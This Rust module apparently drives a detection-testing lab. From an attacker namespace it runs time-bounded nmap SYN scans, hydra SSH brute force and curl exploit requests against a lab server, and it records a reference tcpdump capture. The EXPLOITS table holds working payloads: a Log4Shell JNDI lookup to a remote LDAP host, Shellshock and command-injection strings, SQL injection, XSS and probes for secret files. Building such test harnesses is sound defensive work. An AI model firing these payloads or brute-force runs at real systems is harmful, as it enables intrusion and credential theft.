//! Real attacks from the attacker's namespace against the town hall (nmap,
//! hydra against openssh-server, curl carrying exploit payloads), each
//! bounded in time and packets, and the reference capture: tcpdump on the
//! interface the box watches. Every destination is the lab's town-hall
//! server.

use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use super::lab::{Lab, Proc, progress, tail, wait_until};

/// Exploit requests as mass scanners send them: (path and query, User-Agent).
/// Each carries a different signature of the engine, so each source gives
/// as many `web_exploit` incidents.
const EXPLOITS: [(&str, &str); 8] = [
    ("/", "${jndi:ldap://10.66.60.2:1389/a}"),
    ("/cgi-bin/status", "() { :; }; /bin/bash -c 'id'"),
    (
        "/article?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
        BROWSER,
    ),
    ("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", BROWSER),
    ("/.env", BROWSER),
    ("/.git/config", BROWSER),
    ("/c99.php", BROWSER),
    ("/ping?host=127.0.0.1%24%28id%29", BROWSER),
];
const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0";

/// An attack running in the background.
pub struct Running {
    what: String,
    child: Child,
    log: PathBuf,
}

impl Running {
    pub fn is_running(&mut self) -> bool {
        matches!(self.child.try_wait(), Ok(None))
    }

    /// Waits for the tool's end (it is bounded by `timeout`).
    pub fn finish(mut self) {
        let status = self.child.wait().expect("wait for an attack");
        // hydra and nmap report what they found through their output, not
        // their status; the offline analysis checks that the attack was seen.
        progress(&format!("{} done ({status})", self.what));
        assert!(
            status.code().is_some_and(|code| code != 124 && code != 137),
            "{} hit its time limit:\n{}",
            self.what,
            tail(&self.log)
        );
    }
}

fn spawn(lab: &Lab, what: &str, limit_secs: u32, args: &[&str]) -> Running {
    let log = lab.path(&format!(
        "{}.log",
        what.split(' ').next().unwrap_or("attack")
    ));
    let file = std::fs::File::options()
        .create(true)
        .append(true)
        .open(&log)
        .expect("open an attack's log");
    let child = Command::new("ip")
        .args([
            "netns",
            "exec",
            lab.ns_att(),
            "timeout",
            "-k",
            "5",
            &limit_secs.to_string(),
        ])
        .args(args)
        .current_dir(&lab.dir) // hydra drops hydra.restore in its directory
        .stdin(Stdio::null())
        .stdout(file.try_clone().expect("duplicate a file handle"))
        .stderr(file)
        .spawn()
        .unwrap_or_else(|e| panic!("cannot start {what}: {e}"));
    progress(&format!("attack: {what}"));
    Running {
        what: what.to_owned(),
        child,
        log,
    }
}

/// A SYN scan of `ports` (nmap syntax); `delay_ms` spreads it in time.
pub fn nmap_syn(lab: &Lab, ports: &str, delay_ms: u32) -> Running {
    let victim = lab.fact("VIC_IP");
    let delay = format!("{delay_ms}ms");
    let mut args = vec![
        "nmap",
        "-sS",
        "-Pn",
        "-n",
        "-p",
        ports,
        "--max-retries",
        "0",
    ];
    if delay_ms > 0 {
        args.extend(["--scan-delay", &delay]);
    } else {
        args.push("-T4");
    }
    args.push(victim);
    spawn(lab, &format!("nmap -sS -p {ports} {victim}"), 120, &args)
}

/// hydra against sshd with `passwords` wrong passwords, 4 tasks.
pub fn hydra_ssh(lab: &Lab, passwords: usize) -> Running {
    let list = lab.path("passwords.txt");
    let words: Vec<String> = (1..=passwords)
        .map(|i| format!("motdepasse{i:03}"))
        .collect();
    std::fs::write(&list, words.join("\n") + "\n").expect("write the word list");
    let target = format!("ssh://{}", lab.fact("VIC_IP"));
    let user = lab.fact("SSH_USER");
    let list = list.to_str().expect("UTF-8 path");
    // -w 1: hydra waits this long after sshd closes a connection
    // (MaxAuthTries), which keeps the gaps of the attack short.
    let args = [
        "hydra", "-I", "-w", "1", "-l", user, "-P", list, "-t", "4", &target,
    ];
    spawn(
        lab,
        &format!("hydra ssh, {passwords} passwords"),
        180,
        &args,
    )
}

/// The exploit requests of [`EXPLOITS`] (the first `count`), from `source`
/// (an address of the attacker's namespace): one curl, one connection per
/// request (`--next` starts the next one afresh).
pub fn web_exploits(lab: &Lab, source: &str, count: usize) {
    let victim = lab.fact("VIC_IP");
    let mut args: Vec<String> = Vec::new();
    for (path, agent) in EXPLOITS.iter().take(count) {
        if !args.is_empty() {
            args.push("--next".into());
        }
        args.extend(
            [
                "-s",
                "-o",
                "/dev/null",
                "--max-time",
                "5",
                "--interface",
                source,
                "-A",
                agent,
            ]
            .map(str::to_owned),
        );
        args.push(format!("http://{victim}{path}"));
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    if source == lab.fact("ATT_IP") {
        progress(&format!("attack: {count} exploit requests from {source}"));
    }
    let (ok, out) = lab.run(lab.ns_att(), 60, "curl", &args);
    assert!(
        ok && out.trim().is_empty(),
        "curl from {source} failed: {out}"
    );
}

/// The addresses of the attacker's namespace besides its main one.
pub fn extra_sources(lab: &Lab) -> Vec<String> {
    lab.fact("EXTRA_SOURCES")
        .split_whitespace()
        .map(str::to_owned)
        .collect()
}

/// tcpdump on the interface the box watches: the reference capture.
pub struct Capture {
    pub file: PathBuf,
    process: Proc,
    log: PathBuf,
}

impl Capture {
    pub fn start(lab: &Lab, name: &str) -> Capture {
        let file = lab.path(&format!("{name}.pcap"));
        let log = lab.path(&format!("tcpdump-{name}.log"));
        let interface = lab.fact("CAPTURE_INTERFACE");
        let mut process = Proc::start(
            lab.ns_rtr(),
            "tcpdump",
            &log,
            "tcpdump",
            &[
                "-i",
                interface,
                "-s",
                "0",
                "-n",
                "-U",
                "-B",
                "8192",
                "-Z",
                "root",
                "-w",
                file.to_str().expect("UTF-8 path"),
            ],
        );
        process.wait_program_pid();
        let listening = wait_until("tcpdump to listen", Duration::from_secs(10), || {
            std::fs::read_to_string(&log).is_ok_and(|text| text.contains("listening on"))
        });
        assert!(listening, "tcpdump does not start:\n{}", tail(&log));
        progress(&format!(
            "reference capture on {interface} -> {}",
            file.display()
        ));
        Capture { file, process, log }
    }

    /// Stops the capture and checks the kernel dropped nothing: the
    /// reference must hold every packet the box could see.
    pub fn stop(mut self) -> PathBuf {
        // libpcap hands packets over by blocks, at least every second: let
        // the last ones reach the file.
        std::thread::sleep(Duration::from_secs(2));
        self.process
            .stop_with(nix::sys::signal::Signal::SIGINT, Duration::from_secs(10));
        let text = std::fs::read_to_string(&self.log).unwrap_or_default();
        let dropped = text
            .lines()
            .find_map(|line| line.strip_suffix(" packets dropped by kernel"))
            .unwrap_or_else(|| panic!("tcpdump did not report its drops:\n{text}"));
        assert_eq!(dropped.trim(), "0", "tcpdump dropped packets:\n{text}");
        let captured = text
            .lines()
            .find_map(|line| line.strip_suffix(" packets captured"))
            .unwrap_or("?");
        progress(&format!("reference capture: {captured} packets"));
        self.file.clone()
    }
}
